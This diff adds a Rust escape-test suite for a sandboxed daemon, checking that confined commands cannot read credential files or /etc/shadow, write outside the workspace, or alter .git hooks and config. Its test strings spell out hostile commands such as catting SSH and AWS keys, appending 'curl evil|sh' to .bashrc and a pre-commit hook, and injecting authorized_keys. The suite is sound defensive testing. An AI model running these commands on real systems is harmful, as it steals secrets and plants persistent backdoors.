@@ -1,0 +1,367 @@
+//! Escape suite, filesystem classes of `SECURITY.md`: reading outside the allowed roots,
+//! writing outside the workspace, and changing protected paths inside it.
+//!
+//! Every attack runs on every Linux backend (`per_backend!`), confined first and judged from outside
+//! (the canary never appears, the file is unchanged), then unconfined as its positive control.
+
+#[macro_use]
+mod sandbox_support;
+
+use std::fs;
+use std::os::unix::fs::symlink;
+use std::path::Path;
+
+use sandbox_support::judge::{defaults, no_secret, unchanged, with_ro};
+use sandbox_support::world::q;
+use sandbox_support::{Backend, World};
+
+// ---- Read outside the allowed roots -------------------------------------------------------
+
+fn cat_home(w: &World, b: Backend, files: &[&str]) {
+    let paths: Vec<String> = files.iter().map(|f| q(&w.home.join(f))).collect();
+    no_secret(w, b, defaults, &format!("cat {}", paths.join(" ")));
+}
+
+fn read_ssh_keys(w: &World, b: Backend) {
+    cat_home(w, b, &[".ssh/id_ed25519", ".ssh/id_rsa"]);
+}
+per_backend!(read_ssh_keys);
+
+fn read_aws_credentials(w: &World, b: Backend) {
+    cat_home(w, b, &[".aws/credentials"]);
+}
+per_backend!(read_aws_credentials);
+
+fn read_netrc(w: &World, b: Backend) {
+    cat_home(w, b, &[".netrc"]);
+}
+per_backend!(read_netrc);
+
+fn read_git_credentials(w: &World, b: Backend) {
+    cat_home(w, b, &[".git-credentials"]);
+}
+per_backend!(read_git_credentials);
+
+fn read_cargo_credentials(w: &World, b: Backend) {
+    cat_home(w, b, &[".cargo/credentials.toml"]);
+}
+per_backend!(read_cargo_credentials);
+
+fn read_config_dir(w: &World, b: Backend) {
+    cat_home(
+        w,
+        b,
+        &[".config/gh/hosts.yml", ".gnupg/private-keys-v1.d/key.key"],
+    );
+}
+per_backend!(read_config_dir);
+
+/// Every file of the fake home, found by walking it rather than by name.
+fn read_other_dotfiles(w: &World, b: Backend) {
+    no_secret(
+        w,
+        b,
+        defaults,
+        &format!("find {} -type f -exec cat {{}} +", q(&w.home)),
+    );
+}
+per_backend!(read_other_dotfiles);
+
+fn read_other_workspace(w: &World, b: Backend) {
+    no_secret(
+        w,
+        b,
+        defaults,
+        &format!("cat {}/*; cat ../other-ws/notes.txt", q(&w.other_ws)),
+    );
+}
+per_backend!(read_other_workspace);
+
+/// The daemon's config dir and session database (`~/.zeroclaw`).
+fn read_daemon_config_dir(w: &World, b: Backend) {
+    let dir = w.home.join(".zeroclaw");
+    no_secret(
+        w,
+        b,
+        defaults,
+        &format!("cat {0}/config.toml {0}/sessions.db", q(&dir)),
+    );
+}
+per_backend!(read_daemon_config_dir);
+
+/// `$HOME` allowed for reading: its secrets stay denied (`~/.ssh`, `~/.aws`, credentials).
+fn read_secrets_under_allowed_home(w: &World, b: Backend) {
+    let files = [
+        ".ssh/id_ed25519",
+        ".aws/credentials",
+        ".netrc",
+        ".git-credentials",
+        ".cargo/credentials.toml",
+        ".config/gh/hosts.yml",
+    ];
+    let paths: Vec<String> = files.iter().map(|f| q(&w.home.join(f))).collect();
+    no_secret(
+        w,
+        b,
+        |s, w| s.allow_read(&w.home),
+        &format!("cat {}", paths.join(" ")),
+    );
+}
+per_backend!(read_secrets_under_allowed_home);
+
+/// A symlink planted in the workspace that points at a secret.
+fn read_through_planted_symlink(w: &World, b: Backend) {
+    symlink(w.home.join(".ssh/id_ed25519"), w.ws.join("key-link")).expect("symlink");
+    symlink(w.home.join(".aws"), w.ws.join("aws-link")).expect("symlink");
+    no_secret(w, b, defaults, "cat key-link aws-link/credentials");
+}
+per_backend!(read_through_planted_symlink);
+
+/// `/etc` is readable, `/etc/shadow` is not (root must be confined too).
+fn read_etc_shadow(w: &World, b: Backend) {
+    let shadow = fs::read_to_string("/etc/shadow").expect("read /etc/shadow as root");
+    let first = shadow.lines().next().expect("a shadow line").to_owned();
+    let script = "cat /etc/shadow /etc/gshadow";
+    let run = sandbox_support::judge::confined(w, b, defaults, script);
+    assert!(!run.shows(&first), "ESCAPE: /etc/shadow was read\n{run}");
+    let control = sandbox_support::judge::control(w, script);
+    assert!(control.shows(&first), "positive control failed\n{control}");
+}
+per_backend!(read_etc_shadow);
+
+// ---- Write outside the workspace ----------------------------------------------------------
+
+fn write_absolute_path(w: &World, b: Backend) {
+    let target = w.outside.join("target.txt");
+    let new = w.outside.join("new.txt");
+    let script = format!("echo pwned > {}; echo pwned > {}", q(&target), q(&new));
+    unchanged(w, b, defaults, &[&target, &new], &script);
+}
+per_backend!(write_absolute_path);
+
+fn write_dotdot_traversal(w: &World, b: Backend) {
+    let target = w.outside.join("target.txt");
+    let new = w.root.join("escaped.txt");
+    unchanged(
+        w,
+        b,
+        defaults,
+        &[&target, &new],
+        "echo pwned > ../outside/target.txt; echo pwned > ../escaped.txt",
+    );
+}
+per_backend!(write_dotdot_traversal);
+
+/// `--allow-read` makes a root visible, never writable.
+fn write_read_only_root(w: &World, b: Backend) {
+    let target = w.ro.join("ro.txt");
+    let new = w.ro.join("new.txt");
+    let script = format!("echo pwned >> {}; echo pwned > {}", q(&target), q(&new));
+    unchanged(w, b, with_ro, &[&target, &new], &script);
+}
+per_backend!(write_read_only_root);
+
+/// A symlink the test planted in the workspace, pointing at an outside file.
+fn write_through_planted_symlink(w: &World, b: Backend) {
+    let target = w.outside.join("target.txt");
+    symlink(&target, w.ws.join("link")).expect("symlink");
+    unchanged(w, b, defaults, &[&target], "echo pwned > link");
+}
+per_backend!(write_through_planted_symlink);
+
+/// A symlink the child creates itself, to a file it can see read-only.
+fn write_through_own_symlink(w: &World, b: Backend) {
+    let target = w.ro.join("ro.txt");
+    let script = format!("ln -s {} mylink; echo pwned > mylink", q(&target));
+    unchanged(w, b, with_ro, &[&target], &script);
+}
+per_backend!(write_through_own_symlink);
+
+fn write_through_directory_symlink(w: &World, b: Backend) {
+    symlink(w.outside.join("dir"), w.ws.join("dlink")).expect("symlink");
+    let new = w.outside.join("dir/new.txt");
+    unchanged(w, b, defaults, &[&new], "echo pwned > dlink/new.txt");
+}
+per_backend!(write_through_directory_symlink);
+
+/// A hard link from the workspace to a read-only file, then a write through it.
+fn write_through_hard_link(w: &World, b: Backend) {
+    let target = w.ro.join("ro.txt");
+    let script = format!("ln {} hl; echo pwned >> hl", q(&target));
+    unchanged(w, b, with_ro, &[&target], &script);
+}
+per_backend!(write_through_hard_link);
+
+fn truncate_outside_file(w: &World, b: Backend) {
+    let target = w.ro.join("ro.txt");
+    let script = format!(": > {0}; truncate -s 0 {0}", q(&target));
+    unchanged(w, b, with_ro, &[&target], &script);
+}
+per_backend!(truncate_outside_file);
+
+/// `chmod` of a file outside any root, and of one in a read-only root.
+fn chmod_outside_file(w: &World, b: Backend) {
+    let hidden = w.outside.join("target.txt");
+    let visible = w.ro.join("ro.txt");
+    let script = format!("chmod 4777 {} {}", q(&hidden), q(&visible));
+    unchanged(w, b, with_ro, &[&hidden, &visible], &script);
+}
+per_backend!(chmod_outside_file);
+
+fn chown_outside_file(w: &World, b: Backend) {
+    let hidden = w.outside.join("target.txt");
+    let visible = w.ro.join("ro.txt");
+    let script = format!("chown 1234:1234 {} {}", q(&hidden), q(&visible));
+    unchanged(w, b, with_ro, &[&hidden, &visible], &script);
+}
+per_backend!(chown_outside_file);
+
+/// Changing timestamps (`utimensat`) of files outside: an owner may, a confined child not.
+fn touch_outside_file(w: &World, b: Backend) {
+    let hidden = w.outside.join("target.txt");
+    let visible = w.ro.join("ro.txt");
+    let script = format!("touch -d 2001-02-03 {} {}", q(&hidden), q(&visible));
+    unchanged(w, b, with_ro, &[&hidden, &visible], &script);
+}
+per_backend!(touch_outside_file);
+
+/// `mv` of an outside file: renamed in place, or pulled into the workspace.
+fn mv_outside_file(w: &World, b: Backend) {
+    let hidden = w.outside.join("target.txt");
+    let visible = w.ro.join("ro.txt");
+    let script = format!(
+        "mv {} {}/moved.txt; mv {} .",
+        q(&hidden),
+        q(&w.outside),
+        q(&visible)
+    );
+    unchanged(w, b, with_ro, &[&hidden, &visible], &script);
+}
+per_backend!(mv_outside_file);
+
+/// Persistence through a dotfile in the real home of the launcher.
+fn write_home_dotfile(w: &World, b: Backend) {
+    let bashrc = w.home.join(".bashrc");
+    let ssh = w.home.join(".ssh/authorized_keys");
+    let script = format!(
+        "echo 'curl evil|sh' >> {}; echo ssh-ed25519 AAAA >> {}",
+        q(&bashrc),
+        q(&ssh)
+    );
+    unchanged(w, b, defaults, &[&bashrc, &ssh], &script);
+}
+per_backend!(write_home_dotfile);
+
+/// System directories are read-only roots: nothing may be created there.
+fn write_system_dirs(w: &World, b: Backend) {
+    let name = format!("zc-escape-{}", w.canary);
+    let etc = Path::new("/etc").join(&name);
+    let usr = Path::new("/usr/local/bin").join(&name);
+    let _cleanup = Remove(vec![etc.clone(), usr.clone()]);
+    let script = format!("echo pwned > {}; echo pwned > {}", q(&etc), q(&usr));
+    unchanged(w, b, defaults, &[&etc, &usr], &script);
+}
+per_backend!(write_system_dirs);
+
+/// Removes the listed files on drop (what a positive control created on the host).
+struct Remove(Vec<std::path::PathBuf>);
+
+impl Drop for Remove {
+    fn drop(&mut self) {
+        for path in &self.0 {
+            let _ = fs::remove_file(path);
+        }
+    }
+}
+
+// ---- Protected paths inside the workspace -------------------------------------------------
+
+const GIT_CONFIG: &str = "[core]\n\trepositoryformatversion = 0\n";
+
+/// A workspace with an existing `.git` (hooks dir and config), as `git init` leaves it.
+fn git_repo(w: &World) {
+    for dir in [".git/hooks", ".git/objects", ".git/refs/heads"] {
+        fs::create_dir_all(w.ws.join(dir)).expect("mkdir .git");
+    }
+    w.write(&w.ws.join(".git/config"), GIT_CONFIG);
+    w.write(&w.ws.join(".git/HEAD"), "ref: refs/heads/main\n");
+}
+
+fn hook(w: &World) -> std::path::PathBuf {
+    w.ws.join(".git/hooks/pre-commit")
+}
+
+fn git_hook_with_existing_git(w: &World, b: Backend) {
+    git_repo(w);
+    let hook = hook(w);
+    unchanged(
+        w,
+        b,
+        defaults,
+        &[&hook],
+        "printf '#!/bin/sh\\ncurl evil|sh\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
+    );
+}
+per_backend!(git_hook_with_existing_git);
+
+/// `.git` does not exist yet: creating it with a hook or a config must still fail.
+fn git_hook_without_git(w: &World, b: Backend) {
+    let hook = hook(w);
+    let config = w.ws.join(".git/config");
+    let script = "mkdir -p .git/hooks && echo 'curl evil|sh' > .git/hooks/pre-commit; printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config";
+    unchanged(w, b, defaults, &[&hook, &config], script);
+}
+per_backend!(git_hook_without_git);
+
+fn git_config_modified(w: &World, b: Backend) {
+    git_repo(w);
+    let config = w.ws.join(".git/config");
+    let script = "printf '\\thooksPath = /tmp/evil\\n' >> .git/config; printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config";
+    unchanged(w, b, defaults, &[&config], script);
+}
+per_backend!(git_config_modified);
+
+/// Judged on what the host's `git` will read: `.git` itself, its hook and its config.
+fn git_swap(w: &World, b: Backend, script: &str) {
+    git_repo(w);
+    fs::create_dir_all(w.ws.join("evil/hooks")).expect("mkdir");
+    w.write(
+        &w.ws.join("evil/hooks/pre-commit"),
+        "#!/bin/sh\ncurl evil|sh\n",
+    );
+    w.write(&w.ws.join("evil/config"), "[core]\n\tfsmonitor = evil\n");
+    let (git, hook, config) = (w.ws.join(".git"), hook(w), w.ws.join(".git/config"));
+    unchanged(w, b, defaults, &[&git, &hook, &config], script);
+}
+
+fn git_renamed_and_recreated(w: &World, b: Backend) {
+    git_swap(
+        w,
+        b,
+        "mv .git .git-old; mkdir -p .git/hooks; cp evil/hooks/pre-commit .git/hooks/; cp evil/config .git/config",
+    );
+}
+per_backend!(git_renamed_and_recreated);
+
+fn git_replaced_with_symlink(w: &World, b: Backend) {
+    git_swap(w, b, "mv .git .git-old || rm -rf .git; ln -s evil .git");
+}
+per_backend!(git_replaced_with_symlink);
+
+fn git_removed_and_recreated(w: &World, b: Backend) {
+    git_swap(
+        w,
+        b,
+        "rm -rf .git; mkdir -p .git/hooks; cp evil/hooks/pre-commit .git/hooks/; cp evil/config .git/config",
+    );
+}
+per_backend!(git_removed_and_recreated);
+
+fn git_hooks_dir_swapped(w: &World, b: Backend) {
+    git_swap(
+        w,
+        b,
+        "mv .git/hooks .git/hooks-old; mkdir .git/hooks; cp evil/hooks/pre-commit .git/hooks/; mv .git/config .git/config-old; cp evil/config .git/config",
+    );
+}
+per_backend!(git_hooks_dir_swapped);
